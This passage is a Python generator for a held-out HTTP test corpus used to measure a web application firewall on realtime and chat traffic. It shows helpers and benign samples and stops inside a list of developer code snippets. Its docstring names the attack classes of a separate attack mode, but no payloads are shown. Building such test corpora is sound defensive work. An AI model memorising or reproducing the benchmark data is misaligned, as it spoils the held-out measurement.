#!/usr/bin/env python3
"""corpus-realtime.py -- held-out HTTP test corpus: realtime and interactive applications.

What it is
    A deterministic generator (stdlib only, fixed seed) of labelled HTTP
    requests of the kind a realtime or interactive application receives:
    game backends (matchmaking tickets, leaderboards, inventories, player
    profiles, clans, mod uploads, replays, Nakama / PlayFab-shaped APIs, RCON
    and server-admin panels), chat and community apps (Discord- and
    Slack-shaped APIs, the Matrix client-server API, Mattermost, Rocket.Chat
    REST and DDP over SockJS, Discourse with its message-bus long polling),
    live streaming (Twitch-shaped Helix calls, HLS / LL-HLS / DASH manifests
    and segments, WHIP / WHEP, WebRTC signalling with SDP and ICE candidates,
    LiveKit Twirp, Janus long polling, transcoding jobs), collaborative
    editing (Yjs updates, ShareDB / json0 ops, Etherpad changesets, Quill
    deltas, JSON Patch, Excalidraw / tldraw scenes), presence and Web Push
    subscriptions, and the transports they ride on: WebSocket upgrade
    handshakes with their subprotocols, Server-Sent Events and Mercure,
    socket.io / engine.io polling (EIO 3 and 4, packet-encoded bodies, JSONP
    form bodies, binary attachments), SignalR negotiate and long polling,
    gRPC-Web (binary and base64 text), the Connect protocol (POST and GET),
    GraphQL (subscriptions over SSE, persisted queries), Phoenix LiveView
    long polling, Hotwire Turbo Streams, htmx, Firebase Realtime Database
    REST, Supabase (PostgREST filters, Realtime, Storage), MQTT over
    WebSocket (with AWS IoT presigned URLs).  One JSON object per line, in
    the shape described in /work/shared/corpora/README.md.

    benign  mode: realistic traffic (category "benign", expect "pass"), with
                  emoji-heavy and multilingual chat, nicknames with odd
                  characters, markdown, Matrix HTML bodies, EJSON "$date"
                  values, Source-engine console lines, Minecraft commands,
                  notification templates with {{placeholders}}, SDP bodies with
                  private ICE addresses, large JSON state diffs and base64
                  binary payloads; and developer chat whose content
                  legitimately holds code, SQL, shell, HTML, templates and
                  paths inside markdown fences (category "dev-content",
                  expect "pass": a WAF may flag these by design).
    attacks mode: the OWASP classes delivered through those channels to the
                  fields the application stores, renders, queries or acts on
                  (stored XSS in messages, nicknames, clan names, embeds and
                  Matrix HTML; SQL injection in leaderboard sorts and filters;
                  NoSQL operators in player lookups and DDP calls; SSRF
                  through link previews, avatars, webhooks, push endpoints and
                  ingest URLs; traversal in mod, replay, asset, HLS segment and
                  media downloads; command injection in RCON and transcoding
                  parameters; prototype pollution in state patches; SSTI in
                  notification templates; deserialisation in save blobs;
                  Log4Shell in game chat; CRLF in handshake and redirect
                  parameters; smuggling-shaped upgrade requests and h2c
                  upgrades; scanners probing /socket.io/, /hub, /graphql).

Written blind
    This corpus was written without reading the Palisade rule set, its rule
    sources or rule tests, and without running the WAF until it was frozen:
    it measures the WAF on traffic it was not tuned for.  Read for the record
    shape only: rulesets/src/corpus.rs, the floors helper of
    rulesets/tests/corpus.rs, the ids and category counts of three other
    held-out corpora, and the opening helpers of scripts/corpus-webhooks.py
    (none of its payloads).  All hosts are example names (example.com / .net /
    .org and the documentation IP ranges); private and metadata addresses
    appear only as strings inside requests; nothing is sent anywhere.

Run
    python3 scripts/corpus-realtime.py attacks > rulesets/tests/data/realtime-attacks.jsonl
    python3 scripts/corpus-realtime.py benign  > rulesets/tests/data/realtime-benign.jsonl
"""
import base64
import hashlib
import json
import random
import struct
import sys
import urllib.parse
import uuid

SET = "realtime"
SEED = 20261207
R = random.Random(SEED)
BASE_TS = 1772323200  # 2026-03-01T00:00:00Z


# =========================================================================
# helpers
# =========================================================================
def pick(seq):
    return seq[R.randrange(len(seq))]


def chance(p):
    return R.random() < p


def ts():
    return BASE_TS + R.randint(0, 60 * 86400)


def ts_ms():
    return ts() * 1000 + R.randint(0, 999)


def iso(t=None):
    import datetime
    t = ts() if t is None else t
    d = datetime.datetime.fromtimestamp(t, tz=datetime.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%S") + ".%03dZ" % R.randint(0, 999)


def uid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


AN = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
B64C = AN + "+/"
B64U = AN + "-_"


def alnum(n, chars=AN):
    return "".join(R.choice(chars) for _ in range(n))


def lower(n):
    return alnum(n, "abcdefghijklmnopqrstuvwxyz0123456789")


def digits(n):
    return str(R.randint(1, 9)) + "".join(R.choice("0123456789") for _ in range(n - 1))


def snowflake():
    return str(R.randint(1100000000000000000, 1299999999999999999))


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def b64(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return base64.b64encode(data).decode("ascii")


def b64url(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")


def J(obj, ascii_only=False, spaced=False, htmlesc=False):
    if spaced:
        s = json.dumps(obj, ensure_ascii=ascii_only)
    else:
        s = json.dumps(obj, separators=(",", ":"), ensure_ascii=ascii_only)
    if htmlesc:  # Go's encoding/json escapes these inside strings
        s = s.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    return s


def q(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


def qb(s):
    """A value as a browser puts it in a query string (keeps ' ( ) ! * ~ , : @ / ?)."""
    return urllib.parse.quote(s, safe="'()!*~,:@/?$")


def form(pairs):
    return urllib.parse.urlencode(pairs)


def jwt(claims=None):
    hdr = {"alg": pick(["RS256", "ES256", "HS256"]), "typ": "JWT"}
    if chance(0.5):
        hdr["kid"] = hexs(16)
    if claims is None:
        iat = ts()
        claims = {"sub": uid(), "iat": iat, "exp": iat + pick([900, 3600, 86400])}
    return "%s.%s.%s" % (b64url(J(hdr)), b64url(J(claims)), b64url(rbytes(pick([32, 64, 256]))))


def sid_engineio():
    return alnum(20, B64U)


# -------------------------------------------------------------- user agents
CHROME = ["122.0.0.0", "123.0.0.0", "124.0.0.0", "125.0.0.0", "126.0.0.0", "127.0.0.0", "128.0.0.0"]
WIN = "Windows NT 10.0; Win64; x64"
MAC = "Macintosh; Intel Mac OS X 10_15_7"
LNX = "X11; Linux x86_64"


def browser():
    """(user-agent, family, major) of a desktop or mobile browser."""
    k = R.random()
    if k < 0.46:
        v = pick(CHROME)
        return ("Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Safari/537.36"
                % (pick([WIN, WIN, MAC, LNX]), v), "chrome", v.split(".")[0])
    if k < 0.58:
        v = pick(CHROME)
        return ("Mozilla/5.0 (Linux; Android 14; %s) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/%s Mobile Safari/537.36" % (pick(["Pixel 8", "SM-S918B", "K"]), v),
                "chrome", v.split(".")[0])
    if k < 0.76:
        v = pick(["124.0", "125.0", "126.0", "127.0", "128.0"])
        return ("Mozilla/5.0 (%s; rv:%s) Gecko/20100101 Firefox/%s"
                % (pick([WIN, "Macintosh; Intel Mac OS X 10.15", LNX, "X11; Ubuntu; Linux x86_64"]), v, v),
                "firefox", v.split(".")[0])
    if k < 0.90:
        v = pick(["17.4", "17.5", "17.6", "18.0"])
        if chance(0.5):
            return ("Mozilla/5.0 (iPhone; CPU iPhone OS %s like Mac OS X) AppleWebKit/605.1.15 "
                    "(KHTML, like Gecko) Version/%s Mobile/15E148 Safari/604.1"
                    % (v.replace(".", "_"), v), "safari", v)
        return ("Mozilla/5.0 (%s) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%s Safari/605.1.15"
                % (MAC, v), "safari", v)
    v = pick(CHROME)
    return ("Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Safari/537.36 Edg/%s"
            % (WIN, v, v), "edge", v.split(".")[0])


LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
         "ja,en-US;q=0.9,en;q=0.8", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7", "ko-KR,ko;q=0.9",
         "zh-CN,zh;q=0.9,en;q=0.8", "ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7", "es-ES,es;q=0.9",
         "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7", "tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7",
         "pl-PL,pl;q=0.9,en-US;q=0.8,en;q=0.7", "ar,en-US;q=0.9,en;q=0.8", "hi-IN,hi;q=0.9,en;q=0.8",
         "uk-UA,uk;q=0.9", "vi-VN,vi;q=0.9,en;q=0.8", "th-TH,th;q=0.9", "en-US"]

GAME_UAS = [
    "UnityPlayer/2022.3.21f1 (UnityWebRequest/1.0, libcurl/8.5.0-DEV)",
    "UnityPlayer/6000.0.23f1 (UnityWebRequest/1.0, libcurl/8.10.1-DEV)",
    "Starfall/++UE5+Release-5.3-CL-29314046 Windows/10.0.22631.1.256.64bit",
    "Starfall/++UE5+Release-5.4-CL-33043543 Linux/6.5.0.35.generic",
    "GodotEngine/4.2.2.stable.official (Windows)",
    "GodotEngine/4.3.stable.official (Linux)",
    "Nakama-Unity/3.12.0 (Windows; 10.0.22631)",
    "PlayFabSDK/2.183.240315 (UnitySDK)",
    "libcurl/8.4.0 Defold/1.8.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36 Steam/1712345678",
]
MOBILE_UAS = [
    "okhttp/4.12.0", "okhttp/5.0.0-alpha.14", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 7 Build/AP2A.240805.005)",
    "ChatApp/5.12.1 (iPhone; iOS 17.5.1; Scale/3.00)", "ChatApp/5.12.0 CFNetwork/1496.0.7 Darwin/23.5.0",
    "Element/1.11.70 (Android 14; Pixel 6a; Flavour GooglePlay; MatrixAndroidSdk2 1.6.10)",
    "Element/1.11.5 (iPhone; iOS 17.4; Scale/3.00)", "Mattermost/2.18.1 (Android 13)",
    "RC Mobile; android 13; v4.49.0 (3568)", "Dart/3.4 (dart:io)",
]
DESKTOP_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "discord/1.0.9152 Chrome/120.0.6099.291 Electron/28.2.10 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Slack/4.38.125 Chrome/124.0.6367.207 Electron/30.0.6 Safari/537.36 Sonic Slack_SSB/4.38.125",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Element/1.11.69 Chrome/124.0.6367.243 Electron/30.1.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Mattermost/5.8.1 Chrome/122.0.6261.156 Electron/29.3.3 Safari/537.36",
]
SERVER_UAS = ["Go-http-client/1.1", "Go-http-client/2.0", "python-requests/2.32.3", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
              "axios/1.7.2", "Synapse/1.109.0", "undici", "curl/8.5.0", "Ktor client", "Apache-HttpClient/4.5.14 (Java/17.0.11)"]


def chromium_hints(family, major, ua):
    if family not in ("chrome", "edge"):
        return []
    mobile = "Mobile" in ua
    platform = '"Android"' if "Android" in ua else '"Windows"' if "Windows" in ua else '"macOS"' if "Macintosh" in ua else '"Linux"'
    brand = "Google Chrome" if family == "chrome" else "Microsoft Edge"
    return [["sec-ch-ua", '"Chromium";v="%s", "%s";v="%s", "Not-A.Brand";v="99"' % (major, brand, major)],
            ["sec-ch-ua-mobile", "?1" if mobile else "?0"],
            ["sec-ch-ua-platform", platform]]


def cookie_web(extra=None):
    parts = []
    if chance(0.5):
        parts.append("_ga=GA1.1.%s.%d" % (digits(9), ts()))
    parts.append(pick(["session", "sid", "connect.sid", "_chat_session", "auth"]) + "=" +
                 pick([alnum(32), "s%3A" + alnum(32, B64U) + "." + alnum(43, B64U), hexs(48)]))
    if extra:
        parts.extend(extra)
    if chance(0.3):
        parts.append("theme=" + pick(["dark", "light", "system"]))
    if chance(0.2):
        parts.append("AWSALB=" + alnum(80, B64C) + "==")
    R.shuffle(parts)
    return "; ".join(parts)


def web(host, accept="application/json, text/plain, */*", origin=True, referer=None,
        cookie=True, auth=None, mode="cors", dest="empty", extra=None, cookie_extra=None):
    """Headers of a browser's fetch / XHR, in Chromium or Firefox order."""
    ua, fam, major = browser()
    h = [["Host", host]]
    h.append(["Connection", "keep-alive"])
    h += chromium_hints(fam, major, ua)
    h.append(["User-Agent", ua])
    h.append(["Accept", accept])
    if auth:
        h.append(["Authorization", auth])
    if extra:
        h += [list(x) for x in extra]
    if origin:
        h.append(["Origin", "https://" + (host if origin is True else origin)])
    h += [["Sec-Fetch-Site", "same-site" if isinstance(origin, str) else "same-origin"],
          ["Sec-Fetch-Mode", mode], ["Sec-Fetch-Dest", dest]]
    h.append(["Referer", referer or "https://%s/" % host])
    h.append(["Accept-Encoding", "gzip, deflate, br" + (", zstd" if fam == "chrome" else "")])
    h.append(["Accept-Language", pick(LANGS)])
    if cookie:
        h.append(["Cookie", cookie_web(cookie_extra)])
    return h


def native(host, ua=None, accept="application/json", auth=None, extra=None):
    """Headers of a game client, mobile app, desktop app or server-side caller."""
    h = [["Host", host], ["User-Agent", ua or pick(GAME_UAS)], ["Accept", accept]]
    if chance(0.6):
        h.append(["Accept-Encoding", pick(["gzip, deflate", "gzip", "deflate, gzip", "identity"])])
    if auth:
        h.append(["Authorization", auth])
    if extra:
        h += [list(x) for x in extra]
    return h


def bearer():
    return "Bearer " + jwt()


# ----------------------------------------------------------------- records
OUT = []
COUNT = {}


def _finish_headers(headers, body_len):
    hs = [list(h) for h in headers]
    names = [h[0].lower() for h in hs]
    if body_len is not None and "content-length" not in names and "transfer-encoding" not in names:
        at = len(hs)
        for i, h in enumerate(hs):
            if h[0].lower() == "content-type":
                at = i + 1
        hs.insert(at, ["Content-Length", str(body_len)])
    if chance(0.35) and "x-forwarded-for" not in names:
        hs.append(["X-Forwarded-For", pick(["192.0.2.", "198.51.100.", "203.0.113."]) + str(R.randint(2, 254))])
        hs.append(["X-Forwarded-Proto", "https"])
    return hs


def emit(kind, category, app, method, uri, headers, body=None, ctype=None):
    """One structured request; `kind` is "benign", "dev-content" or "attack"."""
    hs = [list(h) for h in headers]
    if body is not None and ctype and not any(h[0].lower() == "content-type" for h in hs):
        # Content-Type after Accept / Authorization, where clients put it
        at = len(hs)
        for i, h in enumerate(hs):
            if h[0].lower() in ("origin", "sec-fetch-site", "referer", "cookie"):
                at = i
                break
        hs.insert(at, ["Content-Type", ctype])
    hs = _finish_headers(hs, len(body.encode("utf-8")) if body is not None else None)
    _record(kind, category, app, {"method": method, "uri": uri, "version": "HTTP/1.1",
                                  "headers": hs, **({"body": body} if body is not None else {})})


def emit_raw(kind, category, app, raw):
    """A request as exact bytes (binary bodies, framing tricks)."""
    _record(kind, category, app, {"raw_b64": base64.b64encode(raw).decode("ascii")})


def raw_request(method, uri, headers, body=b"", add_length=True, version="HTTP/1.1"):
    if isinstance(body, str):
        body = body.encode("utf-8")
    hs = [list(h) for h in headers]
    if add_length and body and not any(h[0].lower() in ("content-length", "transfer-encoding") for h in hs):
        hs.append(["Content-Length", str(len(body))])
    head = "%s %s %s\r\n" % (method, uri, version) + "".join("%s: %s\r\n" % (n, v) for n, v in hs) + "\r\n"
    return head.encode("utf-8") + body


def _record(kind, category, app, fields):
    if kind == "attack":
        label, expect = category, "detect"
    else:
        label, expect = kind, "pass"
    key = (label, app)
    COUNT[key] = COUNT.get(key, 0) + 1
    rec = {"id": "%s/%s/%s-%03d" % (SET, label, app, COUNT[key]), "set": SET,
           "category": label, "expect": expect}
    rec.update(fields)
    OUT.append(rec)


# --------------------------------------------------------------- protobuf
def pb_varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_str(field, s):
    b = s.encode("utf-8") if isinstance(s, str) else s
    return pb_varint((field << 3) | 2) + pb_varint(len(b)) + b


def pb_int(field, n):
    return pb_varint(field << 3) + pb_varint(n)


def grpc_frame(msg, flag=0):
    return bytes([flag]) + struct.pack(">I", len(msg)) + msg


def multipart(parts, boundary):
    """parts: (name, value[, filename[, content-type]]); values may be bytes."""
    out = b""
    for p in parts:
        name, val = p[0], p[1]
        fn = p[2] if len(p) > 2 else None
        ct = p[3] if len(p) > 3 else None
        disp = 'form-data; name="%s"' % name
        if fn is not None:
            disp += '; filename="%s"' % fn
        out += ("--%s\r\nContent-Disposition: %s\r\n" % (boundary, disp)).encode("utf-8")
        if ct:
            out += ("Content-Type: %s\r\n" % ct).encode("utf-8")
        out += b"\r\n" + (val if isinstance(val, bytes) else val.encode("utf-8")) + b"\r\n"
    return out + ("--%s--\r\n" % boundary).encode("utf-8")


def boundary_browser():
    return "----WebKitFormBoundary" + alnum(16)


def boundary_ff():
    return "---------------------------" + digits(29)


# small binary files that look like what they claim to be
def png_bytes(n=180):
    return (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x80\x00\x00\x00\x80\x08\x06\x00\x00\x00\xc3>a\xcb"
            + b"\x00\x00\x00" + bytes([n & 0xFF]) + b"IDAT" + rbytes(n) + b"\x00\x00\x00\x00IEND\xaeB`\x82")


def zip_bytes(names):
    out = b""
    for nm in names:
        data = rbytes(R.randint(40, 120))
        nb = nm.encode("utf-8")
        out += (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + rbytes(8) + struct.pack("<II", len(data), len(data) * 3)
                + struct.pack("<HH", len(nb), 0) + nb + data)
    return out + b"PK\x05\x06\x00\x00\x00\x00" + struct.pack("<HH", len(names), len(names)) + rbytes(10)


# =========================================================================
# benign content
# =========================================================================
CHAT = [
    # English, gamer and community talk (ordinary words that overlap SQL / JS / shell vocabulary)
    "gg wp everyone, that last round was insane",
    "anyone up for ranked 2v2? ping me @kai",
    "brb 5 min, dog needs a walk",
    "can't believe that clutch <3",
    "Tom & Jerry's stream @ 8pm, don't miss it!",
    "lol he said 'noob' and then got a triple kill",
    "50% off in the store rn, the winter bundle is worth it",
    "#general rules: be nice :) no spoilers for the finale",
    "select your loadout before the timer ends or you get the default kit",
    "drop the flag at base and fall back to B",
    "the union of the two guilds is official now, welcome everyone!",
    "we should script the intro for the stream, it was messy last week",
    "alert: server restart in 10 minutes, finish your matches",
    "exec meeting moved to 3pm, see the calendar invite",
    "sleep well everyone, raid tomorrow at 21:00 CET",
    "where are the patch notes for 1.4.2? the link in #announcements is broken",
    "OR we could just rush mid like last time",
    "insert coin to continue :D",
    "update: the tournament bracket is up -> check the pinned message",
    "who deleted the old lobby? it's gone from the list",
    "New high score: 1,204,550 pts (previous best 1,198,300)",
    "is it just me or is the EU server lagging? 180ms ping",
    "question: does the +10% crit buff stack with the set bonus?",
    "my K/D went from 0.8 to 1.3 this season, finally",
    "don't forget to vote for the next map: Harbor vs. Foundry",
    "5v5 scrim at 19:30 - need one more support",
    "ty for the carry!! 🙏",
    "can someone explain the difference between 'normal' and 'hard' mode drops?",
    "ok -- restarting the client, brb",
    "admin please check report #4821, the guy was wallhacking",
    "Price check: 3x legendary shards for the dragon mount?",
    "just hit Diamond IV 💎💎",
    "remember: 'friendly fire' is ON in hardcore playlists",
    "The event ends on 03/31 at 23:59 UTC.",
    "Looking for group: Mythic+ 15, need tank, 2.8k io",
    "\"git gud\" is not advice lol",
    "[LFG] chill duo for quests, EU, 18+",
    "1st place: Vex (3420), 2nd: Mira (3390), 3rd: Oak (3105)",
    "who's hosting the watch party? I can bring snacks :P",
    "wait, the boss has a second phase?!",
    "Where do I find the <Ancient Key>? The wiki says the north cave",
    "use /invite to add me, my tag is Nova#2231",
    "Hi all, new here 👋 played the beta back in 2024",
    "shoutout to the mods for cleaning up the spam earlier",
    "10/10 stream today, the 1v3 was unreal",
    # emoji heavy
    "🔥🔥🔥 LET'S GOOO 🏆🎉",
    "👨‍👩‍👧‍👦 family game night tonight 🎲🃏🍕",
    "🏳️‍🌈 pride event starts today ✨ new cosmetics in the shop",
    "gg 🫡",
    "💀💀💀 I can't breathe",
    "👋🏽👋🏿👋🏻 welcome newcomers!",
    "🇯🇵 vs 🇧🇷 final tonight ⚽ who you got?",
    "❤️‍🔥 this soundtrack ❤️‍🔥",
    "🧑🏻‍💻 coding the overlay, stream in 10 🎥",
    "😂😂😂 the physics in this game 🐐🚀",
    "(╯°□°)╯︵ ┻━┻ lost again",
    "┬─┬ノ( º _ ºノ) ok fine one more",
    "¯\\_(ツ)_/¯ no idea tbh",
    "ʕ•ᴥ•ʔ cute pet skin",
    "⚔️🛡️🏹 raid comp ready",
    # multilingual
    "今夜のレイド何時から？🐉",
    "おつかれさまでした！また明日〜",
    "ラグがひどい…サーバー落ちてる？",
    "今晚开黑吗？我五排缺一个辅助",
    "这个版本的平衡性改动太离谱了😂",
    "谁有新赛季的天梯截图？",
    "這隻角色的大招好帥！",
    "오늘 랭겜 같이 하실 분?",
    "방금 그 한타 미쳤다 ㅋㅋㅋ",
    "서버 점검 언제 끝나요?",
    "Кто идёт в рейд в 21:00 по МСК?",
    "Спасибо за игру, было круто!",
    "У меня пинг 300, что-то с сервером",
    "Дякую за стрім, було дуже цікаво!",
    "مرحبا بالجميع! من يريد اللعب الليلة؟",
    "السيرفر بطيء جدا اليوم",
    "שלום לכולם, מישהו רוצה לשחק?",
    "¿Alguien para una partida clasificatoria? 🎮",
    "¡Qué jugada tan increíble! GG",
    "Mañana hay torneo a las 18:00 (hora de Madrid)",
    "Bora jogar mais uma? Tô no lobby",
    "Alguém sabe quando sai a atualização?",
    "Wer hat Lust auf eine Runde Ranked? Ich bin ab 20 Uhr da.",
    "Grüße aus Köln! Der Stream war spitze 👏",
    "Quelqu'un pour un duo ce soir ? J'suis dispo après 21h",
    "C'était trop bien le live d'hier !",
    "Akşam turnuvaya katılan var mı?",
    "Çok iyi oynadın kanka 🔥",
    "आज रात कौन खेल रहा है?",
    "बहुत बढ़िया स्ट्रीम थी भाई 🙌",
    "Có ai chơi rank tối nay không?",
    "ใครว่างเล่นด้วยกันบ้าง 555",
    "Ktoś chętny na rajd o 20:00? Potrzebujemy healera.",
    "Καλησπέρα σε όλους! Τι ώρα ξεκινάει το τουρνουά;",
    "Hej! Någon som vill köra co-op?",
    "Selamat malam semua, ada yang mau mabar?",
    "Kiitos pelistä, nähdään huomenna!",
    "Jó játék volt, holnap újra?",
    "Salut! Am intrat și eu pe server 😄",
    "\u200fالجولة القادمة بعد ٥ دقائق\u200f",
    "Zalgo-ish text: ẗ̴h̵ḯ̶s̸ ̷i̴s̴ ̸c̵u̷r̶s̸e̵d̷",
]

NICKS = ["ShadowFox", "xX_Sn1per_Xx", "Mañana_Gamer", "李小龙", "Łukasz", "O'Neil", "[TTV] Kai", "<3Luna",
         "ℭ𝔯𝔬𝔴", "-=VEX=-", "Dr.Who?", "not_a_bot_42", "ساره", "Сергей", "ゆうき", "민수", "Zoë", "Ølaf",
         "x__x", "the.real.nova", "Mira 🌸", "Tank&Spank", "100% Pure Skill", "AT&T Guy", "J'onn", "Ren#1204",
         "(っ◔◡◔)っ", "Über Noob", "ΔLPHΔ", "ØŘÃÑĞĚ", "Sir_Lags_A_Lot", "¡Hola!", "Null", "undefined_player",
         "DROPSHOT", "SelectHero", "Alex \"Ace\" Kim", "Dave & Buster", "1337h4x0r", "semi;colon"]

CLANS = ["Knights of Ni", "Ctrl+Alt+Defeat", "The Order of the Stick", "Los Lobos", "緑の龍", "Team <3",
         "Drop Bears", "Union Jackals", "Exec Squad", "Null Pointers", "Script Kiddos (ironic)", "[EU] Nightfall",
         "Café Crew", "Øresund Vikings", "Ктулху", "The 'Casual' Club", "R&D Gaming", "100 Thieves Fan Club"]

BIOS = [
    "Competitive FPS player since 2012. Tournament organizer for EU-West. DMs open for scrims.",
    "🎨 pixel artist | 🎮 speedrunner | she/her | any% PB 41:22",
    "Streaming Mon/Wed/Fri 19:00 CET — chill vibes, no backseating please.",
    "Ich spiele hauptsächlich Strategiespiele. Clan: [GER] Eiserne Faust",
    "Support main. If you're reading this, please ward. 🙏",
    "Dev by day, healer by night. Opinions are my own & probably wrong.",
    "日本のプレイヤーです。英語も少しできます！",
    "I run the Thursday community nights. Rules: be kind, no cheats, have fun :)",
    "Former pro (2018–2021). Now coaching. Links below ↓",
    "Website: https://example.org/~mira — art commissions open",
    "Main: Ranger | Alt: Warlock | LF guild (EU, semi-hardcore, 18+)",
    "\"The only way to win is to keep playing.\" — someone wise",
]

STREAM_TITLES = [
    "Speedrun any% attempts 🏃 !discord !merch", "Road to Grandmaster | day 47 | !elo",
    "Chill cozy farming sim 🌾 come hang", "First playthrough (NO SPOILERS) part 3",
    "Tournament qualifiers - EU bracket - 5v5", "Dev stream: building a multiplayer lobby in Godot 4",
    "ランクマッチ配信 / Ranked grind with viewers", "Karaoke night 🎤 requests open (!sr)",
    "Charity stream for kids' hospitals 💙 $1 = 1 push-up", "Late night horror games 👻 (18+)",
]

LINKS = ["https://www.example.com/blog/patch-1-4-notes", "https://example.org/wiki/Ancient_Key",
         "https://video.example.net/watch?v=dQw4w9WgXcQ&t=42s", "https://clips.example.com/CleverFunnyOtter-9f2a",
         "https://github.example.com/org/game-overlay/pull/512", "https://docs.example.org/guide#matchmaking",
         "https://store.example.com/app/1234560/Starfall/", "https://news.example.net/2026/03/esports-finals-recap",
         "https://maps.example.com/?q=Cologne+Arena", "https://pics.example.org/i/3kD9xq.png",
         "https://en.example.org/wiki/Elo_rating_system", "https://forum.example.com/t/guide-best-builds/1842/7"]

TEMPLATES = [
    "{{player.name}} reached level {{level}}! 🎉",
    "Hi {{name}}, you have {{count}} new messages",
    "{{user}} just followed! Welcome to the squad ❤️",
    "{{username}} donated {{amount}} {{currency}}: \"{{message}}\"",
    "Your match on {{map}} starts in {{minutes}} minutes",
    "{{#if streak}}🔥 {{streak}}-day streak!{{/if}} Keep it up, {{name}}",
    "Hey {{first_name}}, {{inviter}} invited you to join {{clan}}",
    "{{ sender }} mentioned you in #{{ channel }}",
    "%{user} gifted %{count} subs to the community!",
    "${username} is now live: ${title}",
    "Bonjour {{prenom}}, votre tournoi commence bientôt !",
    "{{displayName}}さんがフレンド申請を送りました",
]

RCON_OK = ["say Server restarting in 5 minutes, please log out safely", "kick Griefer123 spamming chat",
           "whitelist add Steve_2011", "tp @p 100 64 -200", "time set day", "gamerule keepInventory true",
           "give @a minecraft:diamond_sword{Enchantments:[{id:sharpness,lvl:5}]} 1",
           "weather clear 6000", "ban-ip 203.0.113.77 xray", "op Alex", "save-all flush", "list uuids",
           "mp_warmup_end; mp_restartgame 1", "changelevel de_inferno", "sv_cheats 0", "status",
           "exec server.cfg", "bot_kick; mp_limitteams 0", "users", "host_workshop_map 3070244462",
           "broadcast Double XP weekend starts now!", "difficulty hard", "scoreboard objectives add kills playerKillCount"]

PUSH_ENDPOINTS = [
    lambda: "https://fcm.googleapis.com/fcm/send/%s:APA91b%s" % (alnum(11, B64U), alnum(134, B64U)),
    lambda: "https://updates.push.services.mozilla.com/wpush/v2/gAAAAAB%s" % alnum(180, B64U),
    lambda: "https://web.push.apple.com/Q%s" % alnum(110, B64U),
    lambda: "https://wns2-db5p.notify.windows.com/w/?token=BQYAAAD%s" % q(alnum(120, B64C) + "%3d", safe="%"),
]


def p256dh():
    return "B" + alnum(86, B64U)


def chat_text():
    k = R.random()
    if k < 0.75:
        return pick(CHAT)
    if k < 0.87:
        return pick(CHAT) + " " + pick(LINKS)
    if k < 0.94:
        return "@%s %s" % (pick(NICKS).replace(" ", "_"), pick(CHAT))
    return pick(CHAT) + "\n" + pick(CHAT)


def md_text():
    k = R.random()
    base = pick(CHAT)
    if k < 0.25:
        return "**%s** _%s_" % (base, pick(["(edited)", "for real", "lol", "pls"]))
    if k < 0.45:
        return "> %s\n\nagreed, %s" % (pick(CHAT), pick(CHAT))
    if k < 0.6:
        return "- %s\n- %s\n- %s" % (pick(CHAT), pick(CHAT), pick(CHAT))
    if k < 0.75:
        return "[patch notes](%s) — %s" % (pick(LINKS), base)
    if k < 0.85:
        return "||spoiler: %s|| 😱" % base
    return "~~%s~~ %s" % (pick(CHAT), base)


# developers chatting code (category "dev-content")
DEV = [
    "Fixed it, the leaderboard query needed an index:\n```sql\nCREATE INDEX idx_scores_season ON scores (season_id, score DESC);\nSELECT p.name, s.score FROM scores s JOIN players p ON p.id = s.player_id\nWHERE s.season_id = 12 ORDER BY s.score DESC LIMIT 100;\n```",
    "anyone know why this is slow?\n```sql\nSELECT * FROM matches WHERE region = 'EU' OR region = 'NA' UNION ALL SELECT * FROM matches_archive WHERE started_at > now() - interval '7 days';\n```",
    "migration for the new inventory table:\n```sql\nDROP TABLE IF EXISTS inventory_tmp;\nALTER TABLE inventory ADD COLUMN durability int NOT NULL DEFAULT 100;\nUPDATE inventory SET durability = 100 WHERE durability IS NULL;\n```",
    "to reproduce, run:\n```bash\ncurl -s http://localhost:8080/healthz | jq .\nkubectl -n game exec -it deploy/matchmaker -- /bin/sh -c 'cat /etc/os-release'\n```",
    "clean install fixed the socket.io mismatch:\n```sh\nrm -rf node_modules package-lock.json && npm ci\nnpm ls socket.io socket.io-client\n```",
    "the client snippet from the docs:\n```html\n<script src=\"/socket.io/socket.io.js\"></script>\n<script>\n  const socket = io({ transports: ['websocket'] });\n  socket.on('chat message', (msg) => { li.textContent = msg; });\n</script>\n```",
